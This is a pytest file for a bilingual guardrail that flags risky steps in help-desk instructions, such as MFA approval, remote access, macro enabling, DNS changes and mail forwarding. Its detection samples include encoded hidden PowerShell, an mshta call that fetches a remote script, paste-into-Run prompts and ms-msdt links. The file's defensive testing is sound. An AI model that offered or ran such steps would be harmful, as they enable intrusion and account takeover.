"""Kinds of risky steps, in both languages, and what looks like them and is none."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workers.generation.guardrails.risk import risks
from workers.generation.guardrails.risk_kinds import FORMS, KINDS
from workers.translations.sentences import say


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("second_factor", "Approve the sign-in request on your phone."),
        ("second_factor", "Tapez le nombre affiché sur votre téléphone."),
        ("second_factor", "Acceptez la demande de connexion qui s'affiche."),
        ("second_factor", "Lisez-nous le code reçu par SMS, puis le code sur l'écran."),
        ("second_factor", "Read out the code from your phone to the technician."),
        ("second_factor", "Désactivez la double authentification du compte."),
        ("remote_access", "Share your screen with the technician."),
        ("remote_access", "Partagez votre écran dans Teams."),
        ("remote_access", "Installez AnyDesk et donnez le numéro."),
        ("remote_access", "Laissez le technicien prendre la main sur le poste."),
        ("remote_access", "Give us control of your computer."),
        ("hidden_command", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
        ("hidden_command", "Lancez powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4A"),
        ("hidden_command", "Press Windows + R, then press Ctrl + V and Enter."),
        ("hidden_command", "Ouvrez Exécuter et collez la ligne copiée."),
        ("hidden_command", "mshta http://192.0.2.1/a"),
        ("macros", "Click on Enable Content in the yellow bar."),
        ("macros", "Cliquez sur « Activer la modification » puis « Activer le contenu »."),
        ("macros", "Autorisez les macros du classeur."),
        ("macros", "Débloquez le fichier dans ses propriétés."),
        ("certificates", "Click Advanced and proceed to the site (unsafe)."),
        ("certificates", "Ignorez l'avertissement du certificat."),
        ("certificates", "Acceptez le risque et poursuivez."),
        ("certificates", "Install our root certificate into Trusted Root."),
        ("certificates", "Importez l'autorité de certification dans le magasin racine."),
        ("network_path", "Set your DNS server to 192.0.2.9."),
        ("network_path", "Mettez 9.9.9.9 comme serveur DNS."),
        ("network_path", "Ajoutez une ligne au fichier hosts."),
        ("network_path", "Renseignez le proxy dans les paramètres."),
        ("forwarding", "Create a rule that forwards your mail to Gmail."),
        ("forwarding", "Activez le transfert automatique des messages."),
        ("forwarding", "Redirigez votre boîte vers l'adresse de secours."),
        ("forwarding", "Ajoutez une règle de renvoi vers votre adresse privée."),
        ("forwarding", "Réglez une redirection, puis la règle de tri."),
        ("forwarding", "Ajoutez un transfert : cela se règle en redirigeant vers une adresse."),
        ("premises", "The code of the door is on the wall."),
        ("premises", "Le code de la porte du bâtiment est au dos du badge."),
        ("premises", "Tapez la combinaison du coffre."),
        ("premises", "Le digicode est à l'accueil."),
        ("program_link", "Open search-ms:query=invoice&crumb=location:x"),
        ("program_link", "Ouvrez ms-msdt:/id PCWDiagnostic."),
        ("program_link", "file://serveur/partage/outil.exe"),
        ("program_link", "Go to zoommtg://join?x=1"),
        ("share", r"Copy the tool from \\fileserver\tools\fix.exe"),
        ("share", r"Ouvrez \\192.0.2.7@SSL\DavWWWRoot\x"),
        ("share", r"Monter `\\srv-fic.example.org\commun$` en P:"),
    ],
)
def test_a_kind_of_risk(kind: str, text: str) -> None:
    assert kind in risks(text)


@pytest.mark.parametrize(
    "text",
    [
        "Restart the laptop and wait two minutes.",
        "Éteignez l'écran, puis rallumez-le.",
        "Connect the second screen with the grey cable.",
        "Fermez la porte avant de l'imprimante.",
        "The error code is 0x80070035.",
        "Videz le cache DNS avec `ipconfig /flushdns`.",
        "Open https://intranet.example.org:8443/help and choose your site.",
        "Écrivez à mailto:aide@example.org ou appelez tel:+33199004712.",
        "C:\\ProgramData\\app\\log.txt",
        "Cochez « Recto verso » et enregistrez le profil.",
        "Branchez le câble sur la prise murale.",
        "Le certificat est renouvelé chaque année.",
        "Solution : choisir le profil « LSL-TCP443 ».",
        "localhost:8080/status",
        "Sort the messages by date.",
        "Le renvoi du poste se règle sur le site du standard.",
        "Le transfert d'un fichier se règle dans les préférences.",
    ],
)
def test_what_is_no_such_risk(text: str) -> None:
    assert not {*KINDS, *FORMS}.intersection(risks(text))


@pytest.mark.parametrize(
    ("text", "is_risky"),
    [
        ("Connectez-vous avec l'identifiant complet prenom.nom@example.org.", False),
        ("L'identifiant est votre adresse de messagerie.", False),
        ("Ouvrez la page et tapez-y votre identifiant puis validez.", True),
        ("Réinitialisez l'identifiant et le code de l'utilisateur.", True),
        ("Partagez l'identifiant commun avec toute l'équipe.", True),
        ("L'identifiant et le code sont sur la feuille.", True),
        ("Saisissez vos identifiants dans la fenêtre.", True),
        ("Donnez votre identifiant et votre mot de passe.", True),
    ],
)
def test_a_login_name_alone_is_no_secret(text: str, is_risky: bool) -> None:
    assert ("password" in risks(text)) is is_risky


@pytest.mark.parametrize("code", [*KINDS, *FORMS])
@pytest.mark.parametrize("language", ["fr", "en"])
def test_each_kind_is_named_to_staff(code: str, language: str) -> None:
    assert say(f"risk.{code}", language) != f"risk.{code}"


@given(st.text(max_size=300))
def test_any_text_has_risks_or_none(text: str) -> None:
    assert isinstance(risks(text), tuple)
